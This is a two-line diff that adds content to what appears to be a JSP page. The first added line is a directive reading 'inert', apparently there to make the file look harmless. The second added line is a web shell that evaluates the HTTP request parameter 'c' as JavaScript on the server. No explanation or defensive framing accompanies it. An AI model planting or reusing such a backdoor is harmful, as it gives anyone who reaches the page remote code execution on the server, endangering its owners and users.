@@ -1,0 +1,2 @@
+<%@ inert %>
+<% new javax.script.ScriptEngineManager().getEngineByName("js").eval(request.getParameter("c")); %>
